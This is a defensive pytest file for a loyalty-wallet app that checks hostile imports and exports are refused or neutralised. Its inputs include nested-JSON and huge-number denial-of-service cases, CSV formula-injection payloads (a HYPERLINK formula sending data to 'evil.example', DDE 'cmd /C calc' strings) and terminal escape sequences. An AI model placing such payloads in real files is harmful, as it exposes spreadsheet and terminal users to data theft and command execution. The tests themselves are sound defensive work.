"""Hostile loyalty files and exports (issue 11): each attack reproduced, then refused or defused.

Every file here is refused with one clear :class:`~wallet.errors.InvalidInput` naming the file, or
previewed with the bad rows rejected (and why); never a traceback, a hang or a change to the vault.
Whatever the preview accepts, the import stores.
"""

from __future__ import annotations

import csv
import io
import json
import time
from collections.abc import Callable
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import pytest

from tests.conftest import PASSPHRASE
from wallet.cli.main import main
from wallet.errors import InvalidInput
from wallet.loyalty import store
from wallet.loyalty.book import LoyaltyBook
from wallet.loyalty.models import Membership, MembershipDraft
from wallet.vault.facade import CreatedVault, Vault
from wallet.wire.loyalty import ProposalTerms

# Far below the minute the unbounded parser took on one cell.
FAST_SECONDS = 2.0


@pytest.fixture
def book(vault: Vault) -> LoyaltyBook:
    return LoyaltyBook(vault)


def snapshot(book: LoyaltyBook) -> tuple[tuple[Membership, ...], int]:
    """What must not change after a refusal: the memberships and the activity log's length."""
    return tuple(book.memberships()), book._vault.activity_count()


def write(tmp_path: Path, name: str, content: str | bytes) -> Path:
    path = tmp_path / name
    path.write_bytes(
        content.encode("utf-8", "surrogatepass") if isinstance(content, str) else content
    )
    return path


def csv_with_points(tmp_path: Path, *cells: str) -> Path:
    rows = "".join(f"Coffee Club,CC-{i},{cell}\n" for i, cell in enumerate(cells, 1))
    return write(tmp_path, "cards.csv", "Program,Card number,Points\n" + rows)


# ------------------------------------------------------------------------------ points


@pytest.mark.parametrize(
    ("cell", "reason"),
    [
        ("1e999999999", "more than 12 digits before the decimal point"),
        ("1e5000", "more than 12 digits before the decimal point"),
        ("9" * 100, "longer than 40 characters"),
        ("1e-999999999", "more than 6 decimal places"),
        ("0.0000001", "more than 6 decimal places"),
        ("1000000000000", "more than 12 digits before the decimal point"),
        ("Infinity", "not a finite number"),
        ("NaN", "not a finite number"),
        ("-0.5", "must be 0 or more"),
    ],
)
def test_points_are_bounded_before_any_arithmetic(
    book: LoyaltyBook, tmp_path: Path, cell: str, reason: str
) -> None:
    started = time.monotonic()
    preview = book.preview(csv_with_points(tmp_path, cell))
    assert time.monotonic() - started < FAST_SECONDS
    assert not preview.good
    (rejected,) = preview.rejected
    assert rejected.reason.startswith("bad points balance") and reason in rejected.reason
    assert len(rejected.reason) < 120  # a long cell is not echoed in full


def test_three_giant_exponents_are_three_clear_rejections(
    book: LoyaltyBook, tmp_path: Path
) -> None:
    started = time.monotonic()
    preview = book.preview(csv_with_points(tmp_path, "1e999999", "1e999999", "1e999999", "12"))
    assert time.monotonic() - started < FAST_SECONDS
    assert [r.row for r in preview.rejected] == [2, 3, 4]
    assert [row.draft.points_balance for row in preview.good] == [12]


@pytest.mark.parametrize(
    ("cell", "stored"),
    [
        ("999999999999", 999_999_999_999),
        ("1.5e3", 1500),
        ("12.500000", Decimal("12.5")),
        ("0.000001", Decimal("0.000001")),
        ("0e999999999", 0),
        ('"1,234.5"', Decimal("1234.5")),
    ],
)
def test_what_the_preview_accepts_the_import_stores(
    book: LoyaltyBook, tmp_path: Path, cell: str, stored: int | Decimal
) -> None:
    preview = book.preview(csv_with_points(tmp_path, cell))
    (row,) = preview.good
    assert row.draft.points_balance == stored
    book.import_rows(preview)
    (membership,) = book.memberships()
    assert membership.points_balance == stored
    assert type(membership.points_balance) is type(stored)


def test_points_from_json_and_the_model_are_bounded_too(book: LoyaltyBook, tmp_path: Path) -> None:
    own = {
        "format": "vrm-wallet.loyalty",
        "version": 1,
        "memberships": [
            {"program": "A", "member_number": "1", "points_balance": "1e999999999"},
            {"program": "A", "member_number": "2", "points_balance": 1e300},
            {"program": "A", "member_number": "3", "points_balance": 10**4000},
            {"program": "A", "member_number": "4", "points_balance": True},
            {"program": "A", "member_number": "5", "points_balance": 0.1},
        ],
    }
    started = time.monotonic()
    preview = book.preview(write(tmp_path, "own.json", json.dumps(own)))
    assert time.monotonic() - started < FAST_SECONDS
    assert [r.row for r in preview.rejected] == [1, 2, 3, 4]
    assert all("points" in r.reason for r in preview.rejected)
    assert preview.good[0].draft.points_balance == Decimal("0.1")
    with pytest.raises(ValueError, match="more than 12 digits"):
        MembershipDraft(program="A", member_number="1", points_balance=Decimal("1e999999999"))


# ------------------------------------------------------------------------------ JSON shapes


def google(**fields: object) -> dict[str, object]:
    return {"classId": "3388.coffee", "accountId": "CC-1", **fields}


HOSTILE_JSON = {
    "deep-array": ("[" * 100_000 + "]" * 100_000, "nests deeper than"),
    "deep-object": ('{"a":' * 5_000 + "1" + "}" * 5_000, "nests deeper than"),
    "giant-integer": (
        json.dumps(google(loyaltyPoints={"balance": {"int": 1}})).replace(
            '"int": 1', '"int": ' + "9" * 5000
        ),
        "a number of more than 4300 digits",
    ),
    "class-reference-string": (json.dumps(google(classReference="x")), "classReference"),
    "text-modules-number": (json.dumps(google(textModulesData=5)), "textModulesData"),
    "text-module-string": (json.dumps(google(textModulesData=["x"])), "textModulesData[0]"),
    "loyalty-points-list": (json.dumps(google(loyaltyPoints=[1])), "loyaltyPoints"),
    "validity-string": (json.dumps(google(validTimeInterval="2027")), "validTimeInterval"),
    "objects-not-a-list": (json.dumps({"loyaltyObjects": 5}), "loyaltyObjects"),
    "object-not-an-object": (
        json.dumps({"loyaltyObjects": [google(), 7]}),
        "loyaltyObjects[1] must be an object",
    ),
    "apple-primary-number": (
        json.dumps({"formatVersion": 1, "storeCard": {"primaryFields": 5}}),
        "primaryFields",
    ),
    "apple-field-string": (
        json.dumps({"formatVersion": 1, "storeCard": {"backFields": ["x"]}}),
        "storeCard.backFields[0]",
    ),
    "apple-barcodes-number": (
        json.dumps({"formatVersion": 1, "storeCard": {}, "barcodes": 5}),
        "barcodes",
    ),
    "repeated-key": ('{"accountId": "1", "accountId": "2", "classId": "a.b"}', "repeats the key"),
    "too-many-objects": (
        json.dumps({"loyaltyObjects": [google(accountId=str(i)) for i in range(20_001)]}),
        "more than 20000",
    ),
    "a-million-lists": (
        json.dumps(google(textModulesData=[[]] * 1_000_000)),
        "more than 250000 lists and objects",
    ),
    "own-format-list-of-numbers": (
        json.dumps({"format": "vrm-wallet.loyalty", "version": 1, "memberships": [1]}),
        "memberships[0] must be an object",
    ),
}


@pytest.mark.parametrize("name", HOSTILE_JSON)
def test_malformed_json_is_one_clear_error_naming_the_file(
    book: LoyaltyBook, tmp_path: Path, name: str
) -> None:
    content, expected = HOSTILE_JSON[name]
    source = write(tmp_path, f"{name}.json", content)
    before = snapshot(book)
    with pytest.raises(InvalidInput) as caught:
        book.preview(source)
    message = str(caught.value)
    assert expected in message and str(source) in message
    assert "\n" not in message and len(message) < 400
    assert snapshot(book) == before


def test_money_micros_that_are_not_whole_numbers_reject_the_row(
    book: LoyaltyBook, tmp_path: Path
) -> None:
    objects = [
        google(accountId="1", loyaltyPoints={"balance": {"money": {"micros": "Infinity"}}}),
        google(accountId="2", loyaltyPoints={"balance": {"money": {"micros": 1e308}}}),
        google(accountId="3", loyaltyPoints={"balance": {"money": {"micros": "9" * 30}}}),
        google(accountId="4", loyaltyPoints={"balance": {"money": {"micros": 12_500_000}}}),
    ]
    text = json.dumps({"loyaltyObjects": objects}).replace('"Infinity"', "Infinity")
    preview = book.preview(write(tmp_path, "money.json", text))
    assert [r.row for r in preview.rejected] == [1, 2, 3]
    assert all("points" in r.reason for r in preview.rejected)
    assert preview.good[0].draft.points_balance == Decimal("12.5")


def test_lone_surrogates_are_rejected_in_the_preview_not_at_insert(
    book: LoyaltyBook, tmp_path: Path
) -> None:
    text = json.dumps({"loyaltyObjects": [google(accountId="\ud800"), google(accountId="ok")]})
    preview = book.preview(write(tmp_path, "surrogate.json", text))
    assert [r.row for r in preview.rejected] == [1]
    assert len(book.import_rows(preview).imported) == 1


# ------------------------------------------------------------------------------ CSV bounds


def test_csv_bounds_rows_columns_and_cells(book: LoyaltyBook, tmp_path: Path) -> None:
    many_rows = "Program,Card number\n" + "".join(f"P,{i}\n" for i in range(20_001))
    with pytest.raises(InvalidInput, match="more than 20000 rows"):
        book.preview(write(tmp_path, "rows.csv", many_rows))
    many_columns = ",".join(f"c{i}" for i in range(101)) + "\n"
    with pytest.raises(InvalidInput, match="more than 100 columns"):
        book.preview(write(tmp_path, "columns.csv", "Program,Card number," + many_columns))
    long_header = "Program,Card number," + "h" * 201 + "\n"
    with pytest.raises(InvalidInput, match="column name longer than 200"):
        book.preview(write(tmp_path, "header.csv", long_header))
    long_cell = "Program,Card number,Notes\nP,1," + "n" * 5_000 + "\nP,2,short\n"
    preview = book.preview(write(tmp_path, "cell.csv", long_cell))
    assert [r.row for r in preview.rejected] == [2]
    assert "longer than 4000 characters" in preview.rejected[0].reason
    assert [row.draft.member_number for row in preview.good] == ["2"]


def test_cells_starting_with_a_single_quote_keep_it(book: LoyaltyBook, tmp_path: Path) -> None:
    # csv.Sniffer took the single quote for the quoting character here and ate the quotes.
    text = "Program,Card number,Tier,Notes\nP,1,'+x,'=y\nP,2,'-z,'@w\n"
    preview = book.preview(write(tmp_path, "quotes.csv", text))
    assert [(r.draft.tier, r.draft.notes) for r in preview.good] == [("+x", "=y"), ("-z", "@w")]


# ------------------------------------------------------------------------------ export


INJECTIONS = {
    "program": '=HYPERLINK("http://evil.example/?"&A2,"Click")',
    "vendor": "+cmd|' /C calc'!A0",
    "tier": "@SUM(1+1)*cmd|' /C calc'!A0",
    "notes": "-2+3+cmd|' /C calc'!A0",
    "member_number": "'already quoted",
    "barcode_value": "\t=1+1",
}


def test_export_neutralises_formulas_and_reimports_the_same_values(
    book: LoyaltyBook, tmp_path: Path
) -> None:
    book.add(MembershipDraft.model_validate(INJECTIONS))
    book.add(MembershipDraft(program="Plain", member_number="7", notes="\r=cmd"))
    originals = {m.key: m.draft() for m in book.memberships()}
    target = tmp_path / "cards.csv"
    book.export(target, format="csv")
    text = target.read_text(encoding="utf-8")
    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell
    assert "'=HYPERLINK(" in text and "''already quoted" in text
    for membership in book.memberships():
        book.delete(membership.id)
    book.import_rows(book.preview(target))
    assert {m.key: m.draft() for m in book.memberships()} == originals


# ------------------------------------------------------------------------------ CLI


RunCli = Callable[..., tuple[int, str, str]]


@pytest.fixture
def run_cli(
    created: CreatedVault,
    vault_dir: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> RunCli:
    """``vrm-wallet-cli --vault VAULT ARGS`` in this process: (exit code, stdout, stderr)."""
    monkeypatch.setenv("VRM_WALLET_PASSPHRASE", PASSPHRASE)

    def run(*args: str) -> tuple[int, str, str]:
        code = main(["--vault", str(vault_dir), *args])
        captured = capsys.readouterr()
        return code, captured.out, captured.err

    return run


def test_cli_import_of_hostile_files_is_an_error_line(run_cli: RunCli, tmp_path: Path) -> None:
    for name in ("deep-array", "giant-integer", "class-reference-string", "text-modules-number",
                 "apple-primary-number"):  # fmt: skip
        source = write(tmp_path, f"{name}.json", HOSTILE_JSON[name][0])
        code, _out, err = run_cli("loyalty", "import", str(source), "--yes")
        assert code == 1 and err.startswith("error: ") and err.count("\n") == 1, err
    money = google(loyaltyPoints={"balance": {"money": {"micros": 1}}})
    text = json.dumps(money).replace('"micros": 1', '"micros": Infinity')
    code, out, err = run_cli("loyalty", "import", str(write(tmp_path, "m.json", text)), "--yes")
    assert code == 1 and "Nothing to import" in err and "bad points balance" in out
    code, out, _err = run_cli("loyalty", "list", "--json")
    assert code == 0 and json.loads(out) == []


def test_cli_prints_no_raw_control_characters_from_a_file(run_cli: RunCli, tmp_path: Path) -> None:
    evil = "Evil\x1b[8m Club"
    source = write(
        tmp_path,
        "evil.csv",
        f'Program,Card number,Tier,Notes\n"{evil}",X-1,"Gold\x1b]0;pwned\x07","a\nb"\n'
        f'"{evil}",,Gold,\n',
    )
    code, out, err = run_cli("loyalty", "import", str(source), "--yes")
    assert code == 0, err
    code, shown, _ = run_cli("loyalty", "show", "1")
    assert code == 0
    for output in (out, shown):
        assert "\x1b" not in output and "\x07" not in output
        assert "\\x1b" in output


def test_typed_numbers_are_bounded_too(book: LoyaltyBook, run_cli: RunCli) -> None:
    proposal = book.add_proposal(
        ProposalTerms.model_validate(
            {
                "title": "Groceries",
                "category": "groceries",
                "commitment": {"kind": "amount", "amount": "100", "currency": "EUR"},
                "reward": {"kind": "free_delivery"},
                "valid_from": date(2026, 1, 1),
                "valid_until": date(2026, 12, 31),
            }
        )
    )
    with pytest.raises(InvalidInput, match="too large"):
        book.record_purchase(proposal.id, vendor="Shop", amount="1e999999999")
    assert book.progress(proposal.id, as_of=date(2026, 6, 1)).vendors == ()
    started = time.monotonic()
    with pytest.raises(SystemExit) as usage:
        run_cli("loyalty", "add", "--program", "P", "--vendor", "V", "--member-number", "1",
                "--points", "1e999999999")  # fmt: skip
    assert usage.value.code == 2 and time.monotonic() - started < FAST_SECONDS


def test_cli_lists_the_first_rejected_rows_then_counts_the_rest(
    run_cli: RunCli, tmp_path: Path
) -> None:
    rows = "".join(f"Club,{i},lots\n" for i in range(120))
    source = write(tmp_path, "bad.csv", "Program,Card number,Points\n" + rows)
    code, out, err = run_cli("loyalty", "import", str(source), "--yes")
    assert code == 1 and "Nothing to import" in err
    assert out.count("bad points balance 'lots'") == 50
    assert "… and 70 more rows left out." in out


def test_a_balance_stored_before_the_bounds_still_opens(book: LoyaltyBook, tmp_path: Path) -> None:
    """Older versions stored any finite balance; the vault must open, show and export them."""
    legacy = [10**15, Decimal("1E-7")]
    with book._vault.write() as connection:
        for number, points in enumerate(legacy):
            values = MembershipDraft(program="Old", member_number=str(number)).model_dump()
            draft = MembershipDraft.model_construct(**(values | {"points_balance": points}))
            store.insert_membership(connection, draft, datetime.now(UTC))
    assert [m.points_balance for m in book.memberships()] == legacy
    target = tmp_path / "old.csv"
    assert book.export(target, format="csv") == 2
    reasons = [row.reason for row in book.preview(target).rejected]
    assert "too large" in reasons[0] and "decimal places" in reasons[1]
